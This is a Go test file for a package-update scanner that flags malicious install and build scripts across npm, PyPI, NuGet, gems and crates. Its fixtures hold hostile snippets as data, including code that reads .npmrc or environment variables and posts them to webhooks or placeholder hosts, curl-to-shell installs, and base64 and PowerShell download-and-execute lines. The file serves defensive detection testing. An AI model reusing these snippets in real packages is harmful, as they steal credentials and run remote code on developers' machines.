package analyze

import (
	"fmt"
	"math/rand/v2"
	"runtime"
	"runtime/metrics"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/tollgate-dev/tollgate/checks/content/archive"
)

// pkg builds an in-memory npm-style archive (files under package/).
func pkg(files map[string]string) *archive.Archive {
	a := &archive.Archive{Format: "tar.gz"}
	for name, body := range files {
		a.Files = append(a.Files, archive.File{Name: "package/" + name, Data: []byte(body)})
	}
	sort.Slice(a.Files, func(i, j int) bool { return a.Files[i].Name < a.Files[j].Name })
	return a
}

func got(results []Result) string {
	var out []string
	for _, r := range results {
		out = append(out, fmt.Sprintf("%s %s %s", r.File, r.Rule, r.Severity))
	}
	return strings.Join(out, "\n")
}

const benignIndex = "const https = require('https')\nmodule.exports = function get(url) { return https.get(url) }\n"

// The incidents of the issue, rebuilt harmlessly, and the updates that must
// stay quiet.
func TestScenarios(t *testing.T) {
	tests := []struct {
		name     string
		old, new map[string]string // old nil: a package new to the repository
		want     string
	}{
		{
			name: "patch release adds a postinstall that reads .npmrc and posts it to a Discord webhook",
			old:  map[string]string{"package.json": `{"name":"x","version":"1.0.0"}`, "index.js": benignIndex},
			new: map[string]string{"package.json": `{"name":"x","version":"1.0.1","scripts":{"postinstall":"node setup.js"}}`, "index.js": benignIndex,
				"setup.js": "const fs = require('fs'), os = require('os')\nconst t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8')\nfetch('https://discord.com/api/webhooks/1/TOKENTOKENTOKENTOKENTOKEN', {method: 'POST', body: t})\n"},
			want: "setup.js install-script-capability critical",
		},
		{
			name: "an inline install script that pipes curl to a shell",
			old:  map[string]string{"package.json": `{"name":"x","version":"1.0.0"}`},
			new:  map[string]string{"package.json": `{"name":"x","version":"1.0.1","scripts":{"preinstall":"curl -s https://x.example/i.sh | sh"}}`},
			want: "package.json install-script-capability high",
		},
		{
			name: "a new bundle obfuscated by string-array rotation that writes a workflow",
			old:  map[string]string{"package.json": `{"name":"x"}`, "index.js": benignIndex},
			new: map[string]string{"package.json": `{"name":"x"}`, "index.js": benignIndex,
				"bundle.js": strings.Repeat("var _0x4f2a=_0x1b3c[0x1];", 30) + "\nrequire('fs').writeFileSync('.github/workflows/x.yml', w)\n"},
			want: "bundle.js string-array-obfuscation high",
		},
		{
			name: "an sdist whose setup.py runs a base64 payload",
			old:  map[string]string{"setup.py": "from setuptools import setup\nsetup(name='x')\n"},
			new:  map[string]string{"setup.py": "from setuptools import setup\nimport base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\nsetup(name='x')\n"},
			want: "setup.py install-script-capability critical",
		},
		{
			name: "a .pth file that runs code at start-up",
			old:  nil,
			new:  map[string]string{"x.pth": "import os; os.system('curl -s https://x.example | sh')\n"},
			want: "x.pth install-script-capability high",
		},
		{
			name: "a bundle that grew a network-plus-credential path",
			old:  map[string]string{"dist/index.min.js": "function a(){return 1};function b(){return 2}"},
			new:  map[string]string{"dist/index.min.js": "function a(){return 1};function b(){return 2};fetch(\"http://45.61.1.1/c\",{body:require('fs').readFileSync(h+'/.npmrc')})"},
			want: "dist/index.min.js capability-with-threat critical",
		},
		{
			name: "a NuGet package whose imported .targets gains an Exec that posts to a webhook",
			old:  map[string]string{"build/X.targets": "<Project>\n<PropertyGroup><A>1</A></PropertyGroup>\n</Project>\n"},
			new:  map[string]string{"build/X.targets": "<Project>\n<PropertyGroup><A>1</A></PropertyGroup>\n<Target Name=\"T\" BeforeTargets=\"Build\"><Exec Command=\"curl -d @$(HOME)/.npmrc https://discord.com/api/webhooks/1/x\" /></Target>\n</Project>\n"},
			want: "build/X.targets install-script-capability critical",
		},
		{
			name: "a NuGet install.ps1 that downloads and runs",
			old:  nil,
			new:  map[string]string{"tools/install.ps1": "param($installPath)\niex (New-Object Net.WebClient).DownloadString('https://x.example/a.ps1')\n"},
			want: "tools/install.ps1 install-script-capability high",
		},
		{
			name: "a gem's extconf.rb that pipes curl to a shell",
			old:  map[string]string{"ext/x/extconf.rb": "require 'mkmf'\ncreate_makefile('x')\n"},
			new:  map[string]string{"ext/x/extconf.rb": "require 'mkmf'\nsystem('curl -s https://x.example/i | sh')\ncreate_makefile('x')\n"},
			want: "ext/x/extconf.rb install-script-capability high",
		},
		{
			name: "an in-tree build backend that reads the environment and posts it",
			old:  map[string]string{"pyproject.toml": "[build-system]\nbuild-backend = \"setuptools.build_meta\"\n"},
			new: map[string]string{"pyproject.toml": "[build-system]\nbuild-backend = \"backend\"\nbackend-path = [\"_build\"]\n",
				"_build/backend.py": "import os, requests\nrequests.post('https://x.example/c', data=dict(os.environ))\n"},
			want: "_build/backend.py install-script-capability high",
		},
		{
			name: "a crate's build script that sends the environment away",
			old:  map[string]string{"build.rs": "fn main() {}\n"},
			new:  map[string]string{"build.rs": "fn main() { let e: Vec<_> = std::env::vars().collect(); let _ = reqwest::blocking::get(\"https://x.example/\"); }\n"},
			want: "build.rs install-script-capability high",
		},
		{
			name: "a Cargo.toml that newly names an unchanged file as its build script",
			old:  map[string]string{"Cargo.toml": "[package]\nname = \"x\"\n", "tools/gen.rs": "fn main() { let e: Vec<_> = std::env::vars().collect(); }\n"},
			new:  map[string]string{"Cargo.toml": "[package]\nname = \"x\"\nbuild = \"tools/gen.rs\"\n", "tools/gen.rs": "fn main() { let e: Vec<_> = std::env::vars().collect(); }\n"},
			want: "tools/gen.rs install-script-capability high",
		},
		// Quiet updates.
		{
			name: "a NuGet .props that only sets properties",
			old:  map[string]string{"build/X.props": "<Project><PropertyGroup><A>1</A></PropertyGroup></Project>\n"},
			new:  map[string]string{"build/X.props": "<Project><PropertyGroup><A>2</A><B>$(MSBuildThisFileDirectory)</B></PropertyGroup></Project>\n"},
			want: "",
		},
		{
			name: "a gem's extconf.rb that runs make (build scripts run programs by design)",
			old:  map[string]string{"ext/x/extconf.rb": "require 'mkmf'\ncreate_makefile('x')\n"},
			new:  map[string]string{"ext/x/extconf.rb": "require 'mkmf'\nsystem('make -C vendor')\ncreate_makefile('x')\n"},
			want: "",
		},
		{
			name: "a setup.py whose old subprocess call stays and whose version changes",
			old:  map[string]string{"setup.py": "import subprocess\nv = subprocess.check_output(['git', 'describe'])\nsetup(name='x', version='1.0')\n"},
			new:  map[string]string{"setup.py": "import subprocess\nv = subprocess.check_output(['git', 'describe'])\nsetup(name='x', version='1.1')\n"},
			want: "",
		},
		{
			name: "a wheel's .pth that only adds a path",
			old:  nil,
			new:  map[string]string{"x.pth": "./lib\n"},
			want: "",
		},
		{
			name: "a Go module that gains an HTTP client (capability, no threat)",
			old:  map[string]string{"client.go": "package x\n"},
			new:  map[string]string{"client.go": "package x\n\nimport \"net/http\"\n\nfunc Get(u string) { http.Get(u) }\n"},
			want: "",
		},
		{
			name: "a rebuild that only reorders a minified bundle",
			old:  map[string]string{"dist/index.min.js": "function a(){fetch(\"https://api.example/x\")};function b(){return process.env.HOME}" + strings.Repeat(";var q=1", 200)},
			new:  map[string]string{"dist/index.min.js": "function b(){return process.env.HOME};function a(){fetch(\"https://api.example/x\")}" + strings.Repeat(";var q=1", 200)},
			want: "",
		},
		{
			name: "an HTTP client gaining a feature (capabilities, no threat, no install script)",
			old:  map[string]string{"package.json": `{"name":"axios"}`, "lib/http.js": benignIndex},
			new:  map[string]string{"package.json": `{"name":"axios"}`, "lib/http.js": benignIndex + "const cp = require('child_process')\nconst t = process.env.HTTPS_PROXY\n"},
			want: "",
		},
		{
			name: "a README that links a Discord server",
			old:  map[string]string{"README.md": "# x\n"},
			new:  map[string]string{"README.md": "# x\nJoin us at https://discord.com/invite/abc or post to https://discord.com/api/webhooks/ in your own bot.\n"},
			want: "",
		},
		{
			name: "a build.rs that runs the C compiler",
			old:  map[string]string{"build.rs": "fn main() {}\n"},
			new:  map[string]string{"build.rs": "fn main() { std::process::Command::new(\"cc\").arg(\"x.c\").status().unwrap(); }\n"},
			want: "",
		},
		{
			name: "an unchanged postinstall (node-gyp rebuild) in an update",
			old:  map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"install":"node-gyp rebuild"}}`},
			new:  map[string]string{"package.json": `{"name":"x","version":"1.0.1","scripts":{"install":"node-gyp rebuild"}}`},
			want: "",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var old *archive.Archive
			if tt.old != nil {
				old = pkg(tt.old)
			}
			res := Analyze(old, pkg(tt.new))
			if g := got(res); g != tt.want {
				t.Errorf("got:\n%s\nwant:\n%s", g, tt.want)
			}
			for _, r := range res {
				if strings.Contains(r.Evidence, "TOKENTOKENTOKENTOKENTOKEN") {
					t.Errorf("evidence not redacted: %q", r.Evidence)
				}
				if r.Summary == "" {
					t.Errorf("no summary: %+v", r)
				}
			}
		})
	}
}

func TestSummaryReadsAsOneLine(t *testing.T) {
	res := Analyze(pkg(map[string]string{"package.json": `{}`}), pkg(map[string]string{
		"package.json": `{"scripts":{"postinstall":"node setup.js"}}`,
		"setup.js":     "require('child_process').execSync('x'); fetch('https://discord.com/api/webhooks/1/2')\n",
	}))
	if len(res) != 1 || !strings.HasPrefix(res[0].Summary, `a postinstall script ("node setup.js") that runs another program`) || !strings.Contains(res[0].Summary, "names an exfiltration endpoint") {
		t.Errorf("summary %+v", res)
	}
}

// BenchmarkAnalyze5MB analyses a 5 MB package pair: 200 files of 25 KB,
// a tenth of them changed. Target: under 200 ms.
func BenchmarkAnalyze5MB(b *testing.B) {
	r := rand.New(rand.NewPCG(1, 2))
	words := []string{"const", "let", "function", "return", "require('path')", "module.exports", "if", "else", "value", "options", "callback", "this", "=>", "{", "}", ";"}
	mk := func(n int) string {
		var sb strings.Builder
		for sb.Len() < n {
			for range 10 {
				sb.WriteString(words[r.IntN(len(words))])
				sb.WriteByte(' ')
			}
			sb.WriteByte('\n')
		}
		return sb.String()
	}
	oldFiles, newFiles := map[string]string{}, map[string]string{}
	for i := range 200 {
		name := fmt.Sprintf("lib/file%03d.js", i)
		body := mk(25 << 10)
		oldFiles[name] = body
		if i%10 == 0 {
			body += mk(2 << 10)
		}
		newFiles[name] = body
	}
	old, new := pkg(oldFiles), pkg(newFiles)
	b.SetBytes(5 << 20)
	b.ReportAllocs()
	peak := heapPeak(b)
	for b.Loop() {
		Analyze(old, new)
	}
	peak.report()
}

// peakHeap samples the live heap while a benchmark runs and reports its
// peak above the heap before the loop (the package pair itself), in MB:
// runtime.MemStats has no peak, so the heap is read every 200 µs.
type peakHeap struct {
	b          *testing.B
	base, peak uint64
	stop, done chan struct{}
}

func heapPeak(b *testing.B) *peakHeap {
	runtime.GC()
	sample := []metrics.Sample{{Name: "/memory/classes/heap/objects:bytes"}}
	metrics.Read(sample)
	p := &peakHeap{b: b, base: sample[0].Value.Uint64(), stop: make(chan struct{}), done: make(chan struct{})}
	go func() {
		defer close(p.done)
		t := time.NewTicker(200 * time.Microsecond)
		defer t.Stop()
		for {
			select {
			case <-p.stop:
				return
			case <-t.C:
				metrics.Read(sample)
				p.peak = max(p.peak, sample[0].Value.Uint64())
			}
		}
	}()
	return p
}

func (p *peakHeap) report() {
	close(p.stop)
	<-p.done
	p.b.ReportMetric(float64(p.peak-min(p.base, p.peak))/(1<<20), "peak-heap-MB")
}
